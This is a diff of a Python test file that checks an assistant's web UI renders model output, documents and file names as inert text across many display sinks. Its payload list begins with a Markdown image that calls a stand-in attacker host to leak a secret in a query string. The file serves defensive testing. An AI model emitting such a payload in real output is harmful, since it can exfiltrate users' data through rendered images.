@@ -1,8 +1,9 @@
 """Whatever a model, a document or a file name says, the page gets text: nothing that loads, submits or runs."""
 
 import re
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 from dataclasses import replace
+from datetime import date, datetime, timedelta
 from html.parser import HTMLParser
 
 import pytest
@@ -11,21 +12,37 @@ from assistant.addresses import Address
 from assistant.catalog import DocumentInfo, FileEntry, FileState
 from assistant.changes import Changes
 from assistant.chunking import Chunk
+from assistant.conversations import Found, Talk
+from assistant.documents import Document, Heading
 from assistant.grounding import Citation, Statement
+from assistant.quote_places import Mark
 from assistant.receipts import FileResult, Report
 from assistant.retrieval import Hit
+from assistant.scope import Scope
+from assistant.selections import Selection
 from assistant.snapshots import Answer
 from assistant.usage import Usage
-from ui.listing import Order, key_of
-from ui.render import answer_html, line_html, panel_html, question_html, sources_html, status_html
+from ui.listing import Listed, Order, Sieve, by_file, counts, key_of, wanted_files
+from ui.render import answer_html, line_html, question_html, status_html
 from ui.render_documents import (
     changes_html,
     document_html,
-    documents_html,
     outcome_html,
     progress_html,
     results_html,
 )
+from ui.render_reader import Head, Piece, Place, page_html, pager_html, pieces_html, reader_html
+from ui.render_sources import panel_html, sources_html
+from ui.render_table import ROWS, documents_html, sieve_html
+from ui.render_talks import deleted_html, found_html, talks_html
+from ui.where import where_html
+
+
+def table_html(documents: Sequence[DocumentInfo], wanted: str = "", order: Order = Order(), page: int = 0, **sieve: str) -> str:  # noqa: B008  (it is frozen)
+    """The table as the tab shows it."""
+    asked = Sieve(wanted, **sieve)
+    return documents_html(wanted_files(by_file(documents, {}), asked, order), len(documents), asked, order, page)
+
 
 PAYLOADS = [
     "![x](http://evil.example/?q=SECRET)",
@@ -97,6 +114,7 @@ PAYLOADS = [
 # What our own pages are made of; whatever else shows up came from the text.
 ALLOWED = set(
     [
+        *("wbr", "input", "select", "option", "optgroup"),
         "a",
         "article",
         "b",
@@ -110,6 +128,7 @@ ALLOWED = set(
         "dl",
         "dt",
         "em",
+        "img",
         "h2",
         "h3",
         "h4",
@@ -136,9 +155,34 @@ ALLOWED = set(
         "thead",
         "tr",
         "ul",
+        "nav",
+        "h1",
     ]
 )
 ATTRIBUTES = {
+    *("aria-expanded", "aria-haspopup", "value", "selected", "label"),
+    *(
+        f"data-{name}"
+        for name in (
+            "again",
+            "find",
+            "at",
+            "ask-in",
+            "key",
+            "keep",
+            "rename",
+            "forget",
+            "sieve",
+            "now",
+            "start",
+            "end",
+            "tick",
+            "tick-all",
+        )
+    ),
+    "data-talk",
+    "data-talk-act",
+    "download",
     "class",
     "id",
     "title",
@@ -152,17 +196,31 @@ ATTRIBUTES = {
     "data-turn",
     "data-act",
     "data-to",
+    "data-read",
+    "data-ref",
+    "data-at",
+    "data-seq",
+    "data-zoom",
+    "aria-pressed",
+    "src",
+    "alt",
+    "width",
+    "height",
+    "style",
     "aria-sort",
     "value",
     "max",
     "aria-label",
     "aria-hidden",
 }
-VOID = {"br", "hr"}
+VOID = {"br", "hr", "img", "wbr", "input"}
 
 
 class Page(HTMLParser):
     """Reads HTML strictly: elements closed in order, nothing but what we make."""
+
+    allowed = ALLOWED
+    attributes = ATTRIBUTES
 
     def __init__(self, html: str) -> None:
         super().__init__(convert_charrefs=True)
@@ -175,12 +233,16 @@ class Page(HTMLParser):
         assert not self.open
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        assert tag in ALLOWED
+        assert tag in self.allowed
         values = dict(attrs)
-        assert values.keys() <= ATTRIBUTES, values
+        assert values.keys() <= self.attributes, values
         if "href" in values:
             assert tag == "a"
             self.links.append(values["href"] or "")
+        if "src" in values:
+            assert tag == "img" and re.fullmatch(r"/page/[0-9a-f]{16}/\d+\.png\?v=[0-9a-f]{0,12}", values["src"] or "")
+        if "style" in values:
+            assert tag == "span" and re.fullmatch(r"((left|top|width|height):[\d.]+%;?)+", values["style"] or "")
         if tag == "button":
             assert values["type"] == "button"
         if tag == "mark":
@@ -240,6 +302,16 @@ def running() -> Report:
     return Report(total=4, done=2, new=1, unchanged=7, chunks=50, seconds=2.0, bytes=100, bytes_done=50)
 
 
+def document(text: str, heading: bool = False) -> Document:
+    """A document whose id and text are both `text`, of two pages."""
+    return Document(text, "A title", text, (Heading(0, 1, text),) if heading else (), (0, len(text) // 2), "a" * 64)
+
+
+def table(text: str) -> str:
+    """A Markdown table with `text` in a cell."""
+    return f"| a | b |\n| --- | --- |\n| {text} | c |"
+
+
 SINKS: dict[str, Callable[[str], str]] = {
     "answer": lambda text: answer_html(answer(text), 0),
     "answer being written": lambda text: answer_html(answer(text, state="writing", seconds=None), 0),
@@ -250,18 +322,38 @@ SINKS: dict[str, Callable[[str], str]] = {
     "heading": lambda text: sources_html(answer(found=chunk(heading=text)), 0),
     "file name": lambda text: sources_html(answer(found=replace(chunk(), document_id=text)), 0),
     "cited passage": lambda text: sources_html(answer(found=chunk(text)), 0),
-    "passage": lambda text: panel_html([answer(found=chunk(text), citations=())]),
+    "passage": lambda text: panel_html(answer(found=chunk(text), citations=()), 0),
     "folded passage": lambda text: sources_html(answer(found=chunk(f"{'word ' * 200}{text}{' word' * 200}")), 0),
+    "folder": lambda text: table_html([info(f"{text}/a.md")], folder=text) + table_html([info("a.md")], selection=text),
+    "lists": lambda text: sieve_html(
+        Sieve(text, text, text, text, text), counts([Listed(f"{text}/a.{text}", None)]), [Selection(text)]
+    ),
+    "scope": lambda text: where_html(Scope((text,), (text,), (text,))) + answer_html(answer(scope=Scope((text,))), 0),
     "upload result": lambda text: results_html([FileResult(text, True, text), FileResult(text, False, text)], 2, running=True),
     "upload warning": lambda text: results_html([FileResult("a.md", True, "1 chunk", (text, text))], 1),
-    "document": lambda text: documents_html([info(text)]),
-    "failed document": lambda text: documents_html([DocumentInfo(text, "", 0, 0, 0, "", text)], wanted=text),
-    "attachment": lambda text: documents_html([info("m.eml"), info(f"m.eml/{text}", file="m.eml")], order=Order("name")),
-    "file of documents": lambda text: documents_html([info(f"{text}/a.md", file=text)], order=Order(text, True)),
+    "document": lambda text: table_html([info(text)]),
+    "conversation": lambda text: talks_html([talk(text)], date.today()),
+    "found conversation": lambda text: found_html([Found(talk(text), text)]),
+    "deleted conversation": lambda text: deleted_html(text, "abc"),
+    "failed document": lambda text: table_html([DocumentInfo(text, "", 0, 0, 0, "", text)], wanted=text),
+    "attachment": lambda text: table_html([info("m.eml"), info(f"m.eml/{text}", file="m.eml")], order=Order("name")),
+    "file of documents": lambda text: table_html([info(f"{text}/a.md", file=text)], order=Order(text, True)),
     "receipt": lambda text: document_html(info(text), [chunk()], 0, [info(f"{text}/a", file=text)], Address(text, text, text)),
     "receipt of an attachment": lambda text: document_html(info(f"m.eml/{text}", file="m.eml"), [], 0),
     "receipt of a failed file": lambda text: document_html(replace(info(text), reason=text), [], 0),
     "chunk": lambda text: document_html(info("a.md"), [chunk(text, heading=text, title=text)] * 2, 1),
+    "table in a card": lambda text: sources_html(answer(found=chunk(f"# {text}\n\n{table(text)}\n\n{text}")), 0),
+    "reader": lambda text: reader_html(
+        Head(Place(0, "c1.100"), text, text, [text, "p. 2"], text, "text", {"text": -1, "page": 2}),
+        pager_html(Place(0, "p1"), "text", 1, 3, "Passage"),
+    ),
+    "text in the reader": lambda text: pieces_html(
+        [Piece(0, text), Piece(len(text), text, False)], (1, len(text) + 4), document(text)
+    ),
+    "heading in the reader": lambda text: pieces_html([Piece(0, text)], None, document(text, heading=True)),
+    "table in the reader": lambda text: pieces_html([Piece(0, table(text))], (3, 9), document(table(text))),
+    "passage as it was": lambda text: pieces_html([Piece(7, text)], (8, 12), replace(document(text), pages=())),
+    "page in the reader": lambda text: page_html(replace(document(text), title=text), 1, 100, 200, [Mark(1, 2.5, 3, 4)], text),
     "progress": lambda text: progress_html(replace(running(), current=text)),
     "outcome": lambda text: outcome_html(
         replace(running(), problem=text, results=[FileResult(text, False, text), FileResult(text, True, text, (text,))])
@@ -286,7 +378,7 @@ SINKS: dict[str, Callable[[str], str]] = {
 def test_a_payload_stays_text_wherever_it_is_shown(sink: str, payload: str) -> None:
     html = SINKS[sink](payload)
     page = Page(html)
-    assert all(link == "#source-0-1" for link in page.links)
+    assert {*page.links} <= {"#source-0-1", "?c=abc-_1", *(f"export/abc-_1.{kind}" for kind in ("md", "html", "json"))}
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u200b\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff\U000e0000-\U000e007f]", html)
     html.encode("utf-8")
 
@@ -327,7 +419,7 @@ def test_what_is_not_supported_is_set_off_in_words_and_says_what_differs() -> No
     html = answer_html(doubtful(), 0)
     text = Page(html).text
     assert "It cost $60 million. Source 1 partly" in text and text.count("not found") == 1
-    assert 'title="the answer says &quot;$60 million&quot;, the source $6 million"' in html
+    assert '&#10;the answer says &quot;$60 million&quot;, the source $6 million"' in html
     assert 'title="not found in the sources"' in html
     assert '<span class="doubt">It cost $60 million. </span>' in html and '<span class="doubt">Bears</span>' in html
     assert '<span class="doubt">So' not in html and "<code>[?]</code>" in html
@@ -342,7 +434,7 @@ def test_the_sign_for_doubt_in_an_answer_or_its_code_is_only_a_sign() -> None:
 
 def test_a_mark_has_a_name_that_says_more_than_its_number() -> None:
     html = answer_html(answer(found=chunk(title='Prices & "pace"')), 0)
-    assert 'title="Prices &amp; &quot;pace&quot;"' in html
+    assert 'title="Prices &amp; &quot;pace&quot;, p. 3&#10;First sentenc"' in html
     assert "Source 1" in Page(html).text
 
 
@@ -423,36 +515,71 @@ def test_a_long_passage_is_folded_around_its_mark_and_whole_below() -> None:
     assert len(excerpt) < 1200 and "…before" in excerpt and text.replace("THE POINT.", "<mark>THE POINT.</mark>") in whole
 
 
+def test_headings_and_tables_of_a_passage_are_laid_out_and_code_is_not() -> None:
+    text = "# Top\n\nA line\nthat goes on.\n\n| a | b |\n| --- | --- |\n| c | d |"
+    html = sources_html(answer(found=chunk(text), citations=(Citation(1, chunk(text), 100, 105),)), 0)
+    assert '<div class="heading"><mark>Top</mark></div>' in html
+    assert (
+        "A line that goes on." in html
+        and "<tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr>" in html
+        and "---" not in html
+    )
+    code = replace(chunk("# a comment\nx = 1"), document_id="a.py")
+    assert Page(sources_html(answer(found=code), 0)).text.count("# a comment\nx = 1") == 1
+
+
 def test_cited_passages_come_first_and_each_passage_once() -> None:
     cited = replace(chunk("The cited one."), id="c2", title="Cited")
     other = replace(chunk("Another one."), id="c3", title="Other")
     html = sources_html(answer(found=cited, passages=(hit(other), hit(cited))), 0)
-    assert html.index("Cited</h4>") < html.index("not cited") < html.index("Other</h4>")
+    assert html.index("Cited</h3>") < html.index("not cited") < html.index("Other</h3>")
     assert html.count("<article") == 2
 
 
-def test_the_panel_keeps_every_turn() -> None:
-    html = panel_html([answer(), answer("", citations=(), passages=()), answer(found=chunk("New."))])
-    assert 'id="source-0-1"' in html and 'id="source-2-1"' in html and 'data-turn="2"><h2>' in html
-    assert "appear here" in panel_html([])
+def test_the_panel_shows_the_sources_of_one_turn() -> None:
+    html = panel_html(answer(found=chunk("New.")), 2)
+    assert 'id="source-2-1"' in html and 'data-turn="2"><h2>' in html
+    assert "appear here" in panel_html(None)
+
+
+def talk(title: str = "A title", id: str = "abc-_1", updated: float = 0.0) -> Talk:
+    return Talk(id, title, 1, updated, updated)
+
+
+def test_conversations_are_listed_by_day_and_marked_by_nothing_but_their_id() -> None:
+    now = datetime(2026, 3, 9, 12)
+    days = [now, now - timedelta(days=1), now - timedelta(days=3), now - timedelta(days=400)]
+    html = talks_html([talk(f"T{at}", f"id{at}", day.timestamp()) for at, day in enumerate(days)], now.date())
+    text = Page(html).text
+    assert [label for label in ("Today", "Yesterday", "6 March", "2 February 2025") if label in text] == [
+        "Today",
+        "Yesterday",
+        "6 March",
+        "2 February 2025",
+    ]
+    assert html.count("<ul>") == html.count("</ul>") == 4
+    assert "200 older ones" in talks_html([talk()] * 500, now.date())
+    assert "kept here" in talks_html([], now.date()) and "No conversation" in found_html([])
 
 
 def test_failed_documents_come_first_with_their_reason() -> None:
     good = DocumentInfo("a.md", "A", 0, 10, 2, "2026-01-02T03:04:05+00:00")
     bad = DocumentInfo("z.pdf", "", 0, 0, 0, "", "it is encrypted")
-    text = Page(documents_html([good, bad])).text
+    text = Page(table_html([good, bad])).text
     assert text.index("z.pdf") < text.index("a.md")
     assert "2 documents, 1 not indexed" in text and "Not indexed: it is encrypted" in text
-    assert "a.md" not in Page(documents_html([good, bad], wanted="Z.PDF")).text
-    assert "There are no documents yet" in documents_html([])
+    assert "a.md" not in Page(table_html([good, bad], wanted="Z.PDF")).text
+    assert "There are no documents yet" in table_html([])
 
 
-def test_only_so_many_documents_are_listed_and_the_rest_is_counted() -> None:
+def test_many_documents_are_listed_page_by_page() -> None:
     many = [DocumentInfo(f"{number}.md", "T", 0, 1, 1, "") for number in range(700)]
-    html = documents_html(many)
-    assert html.count('<tr id="doc-') == 500
-    assert "the first 500 files are listed, 200 more are not" in Page(html).text
-    assert "; 7 files found for “11.md”" in Page(documents_html(many, wanted="11.md")).text
+    html = table_html(many)
+    assert html.count('<tr id="doc-') == ROWS == 200
+    assert "Files 1 to 200 of 700" in Page(html).text and 'data-act="turn" data-to="1"' in html
+    last = table_html(many, page=99)
+    assert last.count('<tr id="doc-') == 100 and "Files 601 to 700 of 700" in Page(last).text and 'data-to="2"' in last
+    assert "7 files of 700 documents" in Page(table_html(many, wanted="11.md")).text
 
 
 def rows(html: str) -> list[str]:
@@ -464,34 +591,34 @@ def test_attachments_stand_under_their_file_and_are_found_with_it() -> None:
     mail = DocumentInfo("m.eml", "Mail", 0, 10, 1, "", file="m.eml")
     part = DocumentInfo("m.eml/offer.pdf", "Offer", 3, 10, 1, "", file="m.eml")
     other = DocumentInfo("m2.md", "Between", 0, 10, 1, "", file="m2.md")
-    html = documents_html([mail, other, part])
-    assert rows(html) == ["m.eml", "m.eml/offer.pdf", "m2.md"]
+    html = table_html([mail, other, part])
+    assert rows(html) == ["m.eml", "offer.pdf", "m2.md"]
     assert html.count('class="part"') == 1 and html.count('data-act="ask"') == 2
-    assert rows(documents_html([mail, other, part], wanted="OFFER")) == ["m.eml", "m.eml/offer.pdf"]
-    alone = Page(documents_html([part])).text
+    assert rows(table_html([mail, other, part], wanted="OFFER")) == ["m.eml", "offer.pdf"]
+    alone = Page(table_html([part])).text
     assert "m.eml" in alone and "holds 1 document" in alone
 
 
 def test_of_many_documents_in_one_file_some_are_listed_and_those_that_are_looked_for_first() -> None:
     parts = [DocumentInfo(f"all.zip/{number:02}.md", "T", 0, 10, 1, "", file="all.zip") for number in range(30)]
-    table = documents_html(parts)
+    table = table_html(parts)
     assert table.count('class="part"') == 21 and "and 10 more documents in it" in table
     assert "19.md" in table and "25.md" not in table
-    assert "25.md" in documents_html(parts, "25.md")
+    assert "25.md" in table_html(parts, "25.md")
 
 
 def test_a_file_without_a_text_of_its_own_shows_what_is_missing_of_it() -> None:
     part = DocumentInfo("a.zip/b.md", "B", 0, 10, 1, "", file="a.zip", around=("members that can't be opened: 2",))
-    rows = documents_html([part]).split("<tr")
+    rows = table_html([part]).split("<tr")
     assert [("members that can&#x27;t be opened" in row) for row in rows[2:]] == [True, False]
     assert "Of its file" in document_html(part, [], 0)
 
 
 def test_copies_and_warnings_stand_beside_the_name() -> None:
     found = DocumentInfo("a.pdf", "A", 1, 10, 1, "", warnings=("no text on page 3",), copies=("b/a.pdf", "c.pdf"))
-    text = Page(documents_html([found])).text
+    text = Page(table_html([found])).text
     assert "also as b/a.pdf, c.pdf" in text and "Warning: no text on page 3" in text
-    assert rows(documents_html([found], wanted="b/a"))[0] == "a.pdf"
+    assert rows(table_html([found], wanted="b/a"))[0] == "a.pdf"
 
 
 @pytest.mark.parametrize(
@@ -511,8 +638,40 @@ def test_a_click_on_a_head_sorts_by_its_column(order: Order, names: list[str]) -
         DocumentInfo("b.md", "Y", 0, 1, 2, "", size=10),
         DocumentInfo("c.txt", "X", 0, 1, 3, "", size=20),
     ]
-    assert rows(documents_html(listed, order=order)) == names
-    assert ("aria-sort" in documents_html(listed, order=order)) == (order.column != "no such column")
+    assert rows(table_html(listed, order=order)) == names
+    assert ("aria-sort" in table_html(listed, order=order)) == (order.column != "no such column")
+
+
+def test_files_are_sieved_by_folder_type_state_and_selection() -> None:
+    files = by_file(
+        [
+            DocumentInfo("a/one.md", "One", 0, 1, 1, ""),
+            DocumentInfo("a/b/two.txt", "Two", 0, 1, 1, ""),
+            DocumentInfo("ab/three.md", "Three", 0, 1, 1, ""),
+            DocumentInfo("scan.pdf", "", 0, 0, 0, "", "no text was found in it"),
+            DocumentInfo("bad.pdf", "", 0, 0, 0, "", "it is damaged"),
+        ],
+        {"a/one.md": "indexing", "new.md": "waiting"},
+    )
+
+    def found(chosen: frozenset[str] = frozenset(), **sieve: str) -> list[str]:
+        return [listed.file for listed in wanted_files(files, Sieve(**sieve), Order("name"), chosen)]
+
+    assert found(folder="a") == ["a/one.md", "a/b/two.txt"]
+    assert found(type="MD", folder="ab") == ["ab/three.md"]
+    assert [found(state=state) for state in ("indexing", "waiting", "no text", "failed")] == [
+        ["a/one.md"],
+        ["new.md"],
+        ["scan.pdf"],
+        ["bad.pdf"],
+    ]
+    assert found(frozenset(["a/b/two.txt", "gone.md"]), selection="S") == ["a/b/two.txt"]
+    assert found(words="new") == ["new.md"]
+    assert counts(files).folders == {"a": 2, "a/b": 1, "ab": 1}
+    html = documents_html(wanted_files(files, Sieve(), Order("state")), 5)
+    words = ["Failed", "No text found", "Indexing", "Waiting", "Ready"]
+    assert [html.index(f">{word}<") for word in words] == sorted(html.index(f">{word}<") for word in words)
+    assert html.count("data-tick=") == 3  # not what failed, nor what isn't there yet
 
 
 def test_a_second_click_on_a_head_turns_the_order_around() -> None:
